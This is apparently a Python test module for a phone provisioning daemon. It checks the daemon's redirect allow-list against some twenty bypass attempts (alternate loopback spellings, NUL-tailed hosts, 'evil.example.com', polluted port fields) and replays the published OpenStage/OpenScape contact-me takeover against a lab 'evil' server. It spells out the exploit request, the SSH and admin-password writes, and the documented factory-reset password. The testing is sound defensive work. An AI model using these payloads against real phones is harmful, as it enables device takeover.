"""Suite 5's redirect scenarios: the allow-list (spec §4.1 [B]) and the published attack.

A contact-me may carry `dls_ip_addr` / `dls_ip_port`: "call this server instead". That is
how OpenStage / OpenScape phones were taken over (Pentagrid, 2023-12-08; Unify advisory
OBSO-2312-01): a GET to port 8085 sends the phone to the attacker's server, which writes
`ssh-enable`, `ssh-password`, `admin-pwd` and sends a `Restart` with `FactoryReset`.
provd follows a redirect only to an address `contact-me.allow-redirect` lists, and only
over TLS it trusts. Here every way around the list we could think of is tried against the
real daemon, with traps listening where a followed redirect would arrive; then the
attack is replayed with a real evil lab server.

Also the helpers the other scenarios of the suite share: a started phone, the lab's
count of solicited interactions, and the daemon's health.
"""

from __future__ import annotations

import contextlib
import random
import sqlite3
import time
import urllib.parse
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from bench.proof.common import Report
from bench.proof.contactme_traffic import FORM, PATH, Trap, exchange
from bench.proof.daemons import phone, phone_texts
from provd.lab.contactme import send_contact_me
from provd.lab.pki import LabPKI
from provd.lab.scenario import Scenario
from provd.lab.server import LabServer
from provd.wpi.model import Reason, ReplyStatus
from tests.integration.daemon.harness import Phone, wait_until
from tests.integration.daemon.lab import opened

#: [G p.50-51] the documented factory-reset password the attack uses (spec §6.3).
FACTORY_RESET_PASSWORD = "124816"
REFUSED = r"redirect to .* ignored"


# --------------------------------------------------------------------------- shared helpers


@contextlib.contextmanager
def started(
    workdir: Path, lab: LabServer, settings: Mapping[str, Any] | None = None
) -> Iterator[Phone]:
    """A real daemon against `lab`, started, its start-up interaction over."""
    with phone(workdir, lab, settings=settings) as made:
        made.start()
        made.wait_interaction(Reason.START_UP, timeout=30)
        yield made


def solicited(lab: LabServer) -> int:
    """How many `solicited` interactions the lab saw opened."""
    return len(opened(lab, Reason.SOLICITED))


def handler_errors(made: Phone) -> int:
    """Log lines of a contact-me handler that raised (the listener catches and logs them)."""
    pattern = r"contact-me connection from .* dropped|contact-me callback failed|Traceback"
    return len(made.matching_log(pattern))


def alive(made: Phone) -> bool:
    """The process runs and answers on its control socket."""
    if not made.running:
        return False
    try:
        return bool(made.status()["ok"])
    except (OSError, TimeoutError, KeyError, ValueError):
        return False


def item_rows(made: Phone) -> dict[tuple[str, int], str]:
    """Every row of the item store (write-only items included: `get` hides them)."""
    path = made.state_dir / "items.db"
    with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as db:
        rows = db.execute("SELECT name, idx, value FROM items").fetchall()
    return {(str(name), int(idx)): str(value) for name, idx, value in rows}


def changed(before: Mapping[Any, str], after: Mapping[Any, str]) -> int:
    """How many keys were added, removed or given another value."""
    return sum(before.get(key) != after.get(key) for key in set(before) | set(after))


def reset_requests(made: Phone) -> int:
    """Reboot / factory-reset requests the daemon wrote for the privileged units."""
    where = made.requests_dir
    return sum(1 for p in where.iterdir() if p.is_file()) if where.is_dir() else 0


# --------------------------------------------------------------------------- the allow-list


@dataclass(frozen=True)
class Attempt:
    """One contact-me naming a redirect target; `to_ally` when the allow-list permits it."""

    name: str
    query: tuple[tuple[str, str], ...]
    body: tuple[tuple[str, str], ...] = ()
    to_ally: bool = False


def attempts(
    ally: int, trap: int, other: int, default: int | None, v6: int | None
) -> list[Attempt]:
    """Redirects around an allow-list of ``127.0.0.1:<ally>``: other ports, other spellings
    of loopback, other hosts, polluted fields. The last two are allowed (controls)."""

    def to(addr: str, port: str | None = str(trap)) -> tuple[tuple[str, str], ...]:
        fields = [("ContactMe", "true"), ("dls_ip_addr", addr)]
        return tuple(fields + ([("dls_ip_port", port)] if port is not None else []))

    found = [
        Attempt("loopback, another port (POST)", (), to("127.0.0.1")),
        Attempt("loopback, another port (GET, as published)", to("127.0.0.1")),
        Attempt("127.0.0.2, another loopback address", (), to("127.0.0.2", str(other))),
        Attempt("localhost", (), to("localhost")),
        Attempt("::ffff:127.0.0.1", (), to("::ffff:127.0.0.1")),
        Attempt("[::ffff:127.0.0.1]", (), to("[::ffff:127.0.0.1]")),
        Attempt("127.1", (), to("127.1")),
        Attempt("2130706433", (), to("2130706433")),
        Attempt("0x7f.0.0.1", (), to("0x7f.0.0.1")),
        Attempt("0177.0.0.1", (), to("0177.0.0.1")),
        Attempt("host:port in dls_ip_addr", (), to(f"127.0.0.1:{trap}", None)),
        Attempt("port with spaces", (), to("127.0.0.1", f" {trap} ")),
        Attempt("two ports in one field", (), to("127.0.0.1", f"{ally},{trap}")),
        Attempt("port of six digits", (), to("127.0.0.1", f"0{trap:05d}")),
        Attempt(
            "query names the allowed port, body another",
            to("127.0.0.1", str(ally)),
            (("dls_ip_port", str(trap)),),
        ),
        Attempt("allowed host with a NUL tail", (), to("127.0.0.1\x00.evil.example", str(ally))),
        Attempt("a host name", (), to("evil.example.com")),
        Attempt("an unroutable address (TEST-NET-1)", (), to("192.0.2.1", "18443")),
        Attempt("an empty port field", (), to("10.0.0.1", "")),
    ]
    if default is not None:
        found.append(Attempt("loopback without a port (18443)", (), to("127.0.0.1", None)))
    if v6 is not None:
        found.append(Attempt("::1, another port", (), to("::1", str(v6))))
    found += [
        Attempt("control: the allow-listed server", (), to("127.0.0.1", str(ally)), to_ally=True),
        Attempt(
            "control: allowed port first, another second",
            (),
            (*to("127.0.0.1", str(ally)), ("dls_ip_port", str(trap))),
            to_ally=True,
        ),
    ]
    return found


def send_attempt(port: int, attempt: Attempt) -> int | None:
    """Send one attempt as raw HTTP (a GET without body, else a form POST)."""
    target = PATH
    if attempt.query:
        target += b"?" + urllib.parse.urlencode(attempt.query).encode("ascii")
    if not attempt.body:
        data = b"GET " + target + b" HTTP/1.1\r\nHost: phone\r\n\r\n"
    else:
        body = urllib.parse.urlencode(attempt.body).encode("ascii")
        head = b"POST " + target + b" HTTP/1.1\r\nHost: phone\r\n" + FORM
        data = head + f"Content-Length: {len(body)}\r\n\r\n".encode("ascii") + body
    return exchange(port, data).status


def _trap_or_none(host: str, port: int = 0) -> Trap | None:
    try:
        return Trap(host, port)
    except OSError:
        return None


def redirects(report: Report, workdir: Path) -> None:
    """Every redirect not allowed goes to the configured server; the allowed one is followed."""
    traps: list[Trap] = []
    with LabServer("basic") as lab, LabServer("basic", pki=lab.pki) as ally:
        try:
            trap = Trap()
            traps.append(trap)
            other = _trap_or_none("127.0.0.2")
            default = _trap_or_none("127.0.0.1", 18443)
            v6 = _trap_or_none("::1")
            traps += [t for t in (other, default, v6) if t is not None]
            settings = {
                "contact-me.contact-gap": 0,  # every contact-me runs its own interaction
                "contact-me.allow-redirect": [f"127.0.0.1:{ally.port}"],
            }
            tried = attempts(
                ally.port,
                trap.port,
                other.port if other else trap.port,
                default.port if default else None,
                v6.port if v6 else None,
            )
            with started(workdir, lab, settings) as made:
                port = made.contact_me_port
                followed = refused_logged = controls_ok = answered = 0
                not_allowed = [a for a in tried if not a.to_ally]
                for attempt in tried:
                    at_lab, at_ally = solicited(lab), solicited(ally)
                    trapped = sum(t.accepted for t in traps)
                    mark = made.mark()
                    answered += send_attempt(port, attempt) == 204
                    made.wait_interaction(Reason.SOLICITED, after=mark, timeout=30)
                    time.sleep(0.05)
                    went_lab = solicited(lab) - at_lab
                    went_ally = solicited(ally) - at_ally
                    to_trap = sum(t.accepted for t in traps) - trapped
                    if attempt.to_ally:
                        controls_ok += went_ally == 1 and went_lab == 0 and to_trap == 0
                        continue
                    followed += went_lab != 1 or went_ally != 0 or to_trap != 0
                    refused_logged += bool(made.matching_log(REFUSED, after=mark))
                healthy = alive(made)
                errors = handler_errors(made)
        finally:
            for t in traps:
                t.close()
    total = sum(t.accepted for t in traps)
    report.note(
        f"Redirects: allow-redirect = 127.0.0.1:<ally port>, contact-gap 0 so each contact-me"
        f" runs its own interaction; traps on 127.0.0.1 (another port)"
        f"{', 127.0.0.2' if other else ''}{', 127.0.0.1:18443' if default else ''}"
        f"{', ::1' if v6 else ''}; a redirect counts as followed if the configured server did"
        " not get the interaction or a trap got a connection."
    )
    report.figure(
        "redirect attempts to addresses not allowed",
        len(not_allowed),
        "≥ 15",
        len(not_allowed) >= 15,
    )
    report.figure(
        "contact-mes answered 204 (spec §4.1: answer at once)",
        f"{answered} of {len(tried)}",
        "all",
        answered == len(tried),
    )
    report.figure("redirects to addresses not allowed followed", followed, "0", followed == 0)
    report.figure("connections to the traps", total, "0", total == 0)
    report.figure(
        'refused redirects logged ("... ignored: ...")',
        f"{refused_logged} of {len(not_allowed)}",
        "all",
        refused_logged == len(not_allowed),
    )
    controls = len(tried) - len(not_allowed)
    report.figure(
        "control: allowed redirects followed to the allow-listed server",
        f"{controls_ok} of {controls}",
        "all",
        controls_ok == controls,
    )
    report.figure(
        "daemon alive after the redirects, handler errors logged",
        f"{'yes' if healthy else 'NO'}, {errors}",
        "yes, 0",
        healthy and errors == 0,
    )


# --------------------------------------------------------------------------- the attack


def attack_scenario(admin_pwd: str, ssh_password: str) -> Scenario:
    """The evil server of the published attack: enable SSH with a known password, set the
    admin password, then a factory reset with the documented password."""
    write = {
        "action": "WriteItems",
        "items": {
            "ssh-enable": "true",
            "ssh-password": ssh_password,
            "ssh-timer-connect": "10",
            "ssh-timer-session": "60",
            "admin-pwd": admin_pwd,
        },
    }
    reset = {
        "action": "Restart",
        "items": {"restart-type": "FactoryReset", "restart-password": FACTORY_RESET_PASSWORD},
    }
    return Scenario.from_dict({"name": "evil", "interaction": [{"step": [write, reset]}]})


@dataclass(frozen=True)
class Outcome:
    """What one replay of the attack did."""

    sent: int
    documents: int  # documents the phone sent to the evil server
    connections: int  # TCP connections the evil server accepted
    writes: int  # WriteItems the phone answered accepted
    changed: int  # items changed: the store's rows and `get` of the attacked ones
    resets: int  # reboot / factory-reset requests written
    logged: int  # refusals logged
    healthy: bool


def replay(
    report: Report,
    workdir: Path,
    label: str,
    secrets: dict[str, str],
    *,
    allowed: bool,
    trusted: bool,
) -> Outcome:
    """Replay the attack (a GET as published, then a form POST) against a fresh daemon."""
    attacked = ("ssh-enable", "ssh-timer-connect", "ssh-timer-session")
    with LabServer("basic") as lab:
        pki = lab.pki if trusted else LabPKI.create()
        scenario = attack_scenario(secrets["admin-pwd"], secrets["ssh-password"])
        with LabServer(scenario, pki=pki) as evil:
            settings: dict[str, Any] = {"contact-me.contact-gap": 0}
            if allowed:
                settings["contact-me.allow-redirect"] = [f"127.0.0.1:{evil.port}"]
            with started(workdir, lab, settings) as made:
                rows, values = item_rows(made), made.get(*attacked)
                mark = made.mark()
                sent = 0
                for method in ("GET", "POST"):
                    step = made.mark()
                    url = made.contact_me_url
                    send_contact_me(
                        url,
                        dls_ip_addr="127.0.0.1",
                        dls_ip_port=evil.port,
                        method="GET" if method == "GET" else "POST",
                    )
                    sent += 1
                    if trusted:
                        break  # the control: one is enough, the factory reset follows
                    made.wait_interaction(Reason.SOLICITED, after=step, timeout=30)
                if trusted:
                    with contextlib.suppress(AssertionError):  # a miss shows in the figure
                        wait_until(lambda: reset_requests(made) >= 1, timeout=30)
                time.sleep(0.5)
                after_rows, after_values = item_rows(made), made.get(*attacked)
                pattern = REFUSED if not allowed else r"not the pinned one: refused"
                logged = len(made.matching_log(pattern, after=mark))
                texts = phone_texts(made, lab)
                texts["the phone's documents to the evil server"] = b"\n".join(
                    r.body for r in evil.transcript if r.from_phone
                )
                outcome = Outcome(
                    sent=sent,
                    documents=sum(1 for r in evil.transcript if r.from_phone),
                    connections=evil.listener.connections if evil.listener else 0,
                    writes=sum(
                        1
                        for r in evil.transcript
                        if r.from_phone
                        and r.action == "WriteItems"
                        and r.status is ReplyStatus.ACCEPTED
                    ),
                    changed=changed(rows, after_rows) + changed(values, after_values),
                    resets=reset_requests(made),
                    logged=logged,
                    healthy=alive(made),
                )
    report.scan(f"attack replay: {label}", secrets, texts)
    return outcome


def attack(report: Report, workdir: Path, seed: int) -> None:
    """The published attack, refused twice (not allowed; allowed but untrusted), then
    carried out against an allow-listed server holding the trusted key (the control)."""
    rng = random.Random(seed)
    alphabet = "abcdefghijkmnopqrstuvwxyzACDEFGHJKLMNPQRSTUVWXYZ23456789"
    secrets = {
        "admin-pwd": "".join(rng.choice(alphabet) for _ in range(20)),
        "ssh-password": "".join(rng.choice(alphabet) for _ in range(24)),
    }
    report.note(
        "Attack replay after Pentagrid, 'Remote code execution and elevation of local"
        " privileges in Mitel Unify OpenStage and OpenScape VoIP phones' (2023-12-08,"
        " https://www.pentagrid.ch/en/blog/rce-and-local-root-in-openstage-and-openscape-phones/;"
        " Unify advisory OBSO-2312-01): GET http://PHONE:8085/contact_dls.html/ContactDLS?"
        "ContactMe=true&dls_ip_addr=EVIL&dls_ip_port=PORT; the evil server answers WriteItems"
        " ssh-enable=true, ssh-password, ssh-timer-*, admin-pwd, then Restart restart-type="
        "FactoryReset restart-password=124816 (the documented one). Proof of concept:"
        " https://github.com/pentagridsec/openstage-exploit-chain. Replayed with a GET (as"
        " published) and a form POST (as the guide writes it) against a fresh daemon each time."
    )
    refused = replay(
        report,
        workdir / "not-allowed",
        "redirect not allowed",
        secrets,
        allowed=False,
        trusted=False,
    )
    untrusted = replay(
        report,
        workdir / "untrusted",
        "allowed but untrusted TLS",
        secrets,
        allowed=True,
        trusted=False,
    )
    control = replay(
        report,
        workdir / "control",
        "control: allowed and trusted",
        secrets,
        allowed=True,
        trusted=True,
    )
    both = (refused, untrusted)
    report.figure(
        "attack contact-mes sent (GET and POST, two daemons)",
        sum(o.sent for o in both),
        "≥ 4",
        sum(o.sent for o in both) >= 4,
    )
    report.figure(
        "connections to the evil server when not allowed",
        refused.connections,
        "0",
        refused.connections == 0,
    )
    documents = sum(o.documents for o in both)
    report.figure("documents the phone sent to the evil server", documents, "0", documents == 0)
    items = sum(o.changed for o in both)
    report.figure(
        "items changed (item store rows, ssh-enable/ssh-timer-* by get)", items, "0", items == 0
    )
    resets = sum(o.resets for o in both)
    report.figure("factory resets or reboots asked", resets, "0", resets == 0)
    report.figure(
        "refusals logged (redirect ignored; key not the pinned one)",
        f"{refused.logged}, {untrusted.logged}",
        "≥ 2, ≥ 1",
        refused.logged >= 2 and untrusted.logged >= 1,
    )
    report.figure(
        "daemons alive after the attack",
        sum(o.healthy for o in both),
        "2",
        all(o.healthy for o in both),
    )
    report.figure(
        "control: same attack from an allow-listed server with the trusted key",
        f"WriteItems accepted {control.writes}, factory reset asked {control.resets},"
        f" items changed {control.changed}",
        "1, 1, ≥ 1",
        control.writes == 1 and control.resets == 1 and control.changed >= 1,
    )
    report.note(
        f"Untrusted variant: the allowed evil server got {untrusted.connections} TCP"
        " connection(s); the phone checked the key it presented against the one it pinned"
        " from the configured server at start-up, closed, and sent no request. The control"
        " shows the detectors see a takeover: the same evil server, allowed and holding the"
        " pinned key, does change the phone (its items changed are the ones the start-up had"
        " written, wiped by the factory reset)."
    )
